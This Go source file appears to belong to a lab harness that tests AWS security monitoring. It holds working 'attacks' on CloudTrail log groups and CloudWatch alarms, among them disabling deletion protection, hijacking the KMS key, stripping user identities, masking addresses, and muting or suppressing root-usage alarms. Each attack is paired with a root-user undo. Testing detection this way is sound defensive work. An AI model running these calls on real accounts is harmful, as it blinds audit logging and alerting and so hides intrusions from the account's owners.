package lab

import (
	"context"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/cloudwatch"
	cwtypes "github.com/aws/aws-sdk-go-v2/service/cloudwatch/types"
	"github.com/aws/aws-sdk-go-v2/service/cloudwatchlogs"
	logtypes "github.com/aws/aws-sdk-go-v2/service/cloudwatchlogs/types"
)

// Attacks that leave every protection where it is and change what comes of
// it. Those that no repair undoes are taken back by the account's root user
// once people were told.

func cliUnprotect(group func(Target) string) doer {
	return func(ctx context.Context, s *Session, t Target) (Aftermath, error) {
		_, err := s.AWS(ctx, "logs", "put-log-group-deletion-protection", "--log-group-identifier", group(t), "--no-deletion-protection-enabled")
		return nil, err
	}
}

func takeKey(ctx context.Context, s *Session, t Target) (Aftermath, error) {
	_, err := s.Logs.AssociateKmsKey(ctx, &cloudwatchlogs.AssociateKmsKeyInput{
		LogGroupName: aws.String(t.TrailLogGroup), KmsKeyId: aws.String("arn:aws:kms:" + s.Region + ":444455556666:key/1234abcd-12ab-34cd-56ef-1234567890ab"),
	})
	return nil, err
}

func dropKey(ctx context.Context, root *Session, t Target) error {
	_, err := root.Logs.DisassociateKmsKey(ctx, &cloudwatchlogs.DisassociateKmsKeyInput{LogGroupName: aws.String(t.TrailLogGroup)})
	return err
}

func cliDropKey(ctx context.Context, s *Session, t Target) (Aftermath, error) {
	_, err := s.AWS(ctx, "logs", "disassociate-kms-key", "--log-group-name", t.TrailLogGroup)
	return nil, err
}

func deleteStream(ctx context.Context, s *Session, t Target) (Aftermath, error) {
	group, stream := aws.String(t.TrailLogGroup), aws.String(Account+"_CloudTrail_"+s.Region)
	if _, err := s.Logs.CreateLogStream(ctx, &cloudwatchlogs.CreateLogStreamInput{LogGroupName: group, LogStreamName: stream}); err != nil {
		return nil, err
	}
	_, err := s.Logs.DeleteLogStream(ctx, &cloudwatchlogs.DeleteLogStreamInput{LogGroupName: group, LogStreamName: stream})
	return nil, err
}

func deleteFeed(ctx context.Context, s *Session, t Target) (Aftermath, error) {
	group, name := aws.String(t.TrailLogGroup), aws.String("to-security")
	if _, err := s.Logs.PutSubscriptionFilter(ctx, &cloudwatchlogs.PutSubscriptionFilterInput{
		LogGroupName: group, FilterName: name, FilterPattern: aws.String(""),
		DestinationArn: aws.String("arn:aws:logs:" + s.Region + ":444455556666:destination:security"),
	}); err != nil {
		return nil, err
	}
	_, err := s.Logs.DeleteSubscriptionFilter(ctx, &cloudwatchlogs.DeleteSubscriptionFilterInput{LogGroupName: group, FilterName: name})
	return nil, err
}

// masking is a data protection policy that masks addresses.
const masking = `{"Name":"mask","Version":"2021-06-01","Statement":[` +
	`{"DataIdentifier":["arn:aws:dataprotection::aws:data-identifier/IpAddress"],"Operation":{"Audit":{"FindingsDestination":{}}}},` +
	`{"DataIdentifier":["arn:aws:dataprotection::aws:data-identifier/IpAddress"],"Operation":{"Deidentify":{"MaskConfig":{}}}}]}`

func mask(ctx context.Context, s *Session, t Target) (Aftermath, error) {
	_, err := s.Logs.PutDataProtectionPolicy(ctx, &cloudwatchlogs.PutDataProtectionPolicyInput{
		LogGroupIdentifier: aws.String(t.TrailLogGroup), PolicyDocument: aws.String(masking),
	})
	return nil, err
}

func unmask(ctx context.Context, root *Session, t Target) error {
	_, err := root.Logs.DeleteDataProtectionPolicy(ctx, &cloudwatchlogs.DeleteDataProtectionPolicyInput{LogGroupIdentifier: aws.String(t.TrailLogGroup)})
	return err
}

func transform(ctx context.Context, s *Session, t Target) (Aftermath, error) {
	_, err := s.Logs.PutTransformer(ctx, &cloudwatchlogs.PutTransformerInput{
		LogGroupIdentifier: aws.String(t.TrailLogGroup),
		TransformerConfig:  []logtypes.Processor{{ParseJSON: &logtypes.ParseJSON{}}, {DeleteKeys: &logtypes.DeleteKeys{WithKeys: []string{"userIdentity"}}}},
	})
	return nil, err
}

func untransform(ctx context.Context, root *Session, t Target) error {
	_, err := root.Logs.DeleteTransformer(ctx, &cloudwatchlogs.DeleteTransformerInput{LogGroupIdentifier: aws.String(t.TrailLogGroup)})
	return err
}

func maskAll(ctx context.Context, s *Session, _ Target) (Aftermath, error) {
	_, err := s.Logs.PutAccountPolicy(ctx, &cloudwatchlogs.PutAccountPolicyInput{
		PolicyName: aws.String("mask"), PolicyType: logtypes.PolicyTypeDataProtectionPolicy, PolicyDocument: aws.String(masking),
	})
	return nil, err
}

func unmaskAll(ctx context.Context, root *Session, _ Target) error {
	_, err := root.Logs.DeleteAccountPolicy(ctx, &cloudwatchlogs.DeleteAccountPolicyInput{
		PolicyName: aws.String("mask"), PolicyType: logtypes.PolicyTypeDataProtectionPolicy,
	})
	return err
}

func cliSetState(control, state string) doer {
	return func(ctx context.Context, s *Session, t Target) (Aftermath, error) {
		_, err := s.AWS(ctx, "cloudwatch", "set-alarm-state", "--alarm-name", t.Prefix+"-"+control, "--state-value", state, "--state-reason", "test")
		return nil, err
	}
}

func resetState(control string) func(context.Context, *Session, Target) error {
	return func(ctx context.Context, root *Session, t Target) error {
		_, err := root.CloudWatch.SetAlarmState(ctx, &cloudwatch.SetAlarmStateInput{
			AlarmName: aws.String(t.Prefix + "-" + control), StateValue: cwtypes.StateValueOk, StateReason: aws.String("handled"),
		})
		return err
	}
}

const muteName = "maintenance"

func muteAlarms(ctx context.Context, s *Session, t Target) (Aftermath, error) {
	_, err := s.CloudWatch.PutAlarmMuteRule(ctx, &cloudwatch.PutAlarmMuteRuleInput{
		Name: aws.String(muteName), MuteTargets: &cwtypes.MuteTargets{AlarmNames: []string{t.Prefix + "-root-usage", t.Prefix + "-iam-changes"}},
		Rule: &cwtypes.Rule{Schedule: &cwtypes.Schedule{
			Expression: aws.String(time.Now().UTC().Format("at(2006-01-02T15:04)")), Duration: aws.String("PT12H"),
		}},
	})
	return nil, err
}

func unmuteAlarms(ctx context.Context, root *Session, _ Target) error {
	_, err := root.CloudWatch.DeleteAlarmMuteRule(ctx, &cloudwatch.DeleteAlarmMuteRuleInput{AlarmMuteRuleName: aws.String(muteName)})
	return err
}

const compositeName = "any-of-the-account"

func suppress(ctx context.Context, s *Session, t Target) (Aftermath, error) {
	_, err := s.CloudWatch.PutCompositeAlarm(ctx, &cloudwatch.PutCompositeAlarmInput{
		AlarmName: aws.String(compositeName), AlarmRule: aws.String(`ALARM("` + t.Prefix + `-root-usage")`),
		ActionsSuppressor: aws.String(t.Prefix + "-config-changes"), ActionsSuppressorWaitPeriod: aws.Int32(60), ActionsSuppressorExtensionPeriod: aws.Int32(60),
	})
	return nil, err
}

func unsuppress(ctx context.Context, root *Session, _ Target) error {
	_, err := root.CloudWatch.DeleteAlarms(ctx, &cloudwatch.DeleteAlarmsInput{AlarmNames: []string{compositeName}})
	return err
}
